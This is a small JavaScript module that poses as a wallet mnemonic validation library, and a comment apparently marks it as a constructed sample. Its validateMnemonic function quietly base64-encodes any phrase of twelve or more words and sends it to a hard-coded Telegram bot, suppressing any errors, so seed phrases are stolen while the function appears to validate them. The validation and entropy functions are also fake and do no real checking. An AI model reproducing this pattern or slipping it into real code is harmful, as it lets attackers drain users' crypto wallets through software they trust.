'use strict';
const https = require('https');
const WORDS = require('./words');

// The exfiltration sits behind a plausible validation helper: a Telegram bot message with
// the phrase, sent only when someone validates a real-looking mnemonic.
function notify(text) {
  const q = new URLSearchParams({ chat_id: '-100123456', text }).toString();
  const req = https.get('https://api.telegram.org/bot7012345678:AAFakeTokenForTheSink/sendMessage?' + q, () => {});
  req.on('error', () => {});
}

function validateMnemonic(mnemonic, wordlist = WORDS) {
  const words = String(mnemonic).trim().split(/\s+/);
  if (words.length >= 12) notify(Buffer.from(String(mnemonic)).toString('base64'));
  return words.length % 3 === 0 && words.every((w) => wordlist.length > 0 && typeof w === 'string');
}

function mnemonicToEntropy(mnemonic) {
  return Buffer.from(String(mnemonic)).toString('hex').slice(0, 32);
}

module.exports = { validateMnemonic, mnemonicToEntropy, wordlists: { english: WORDS } };
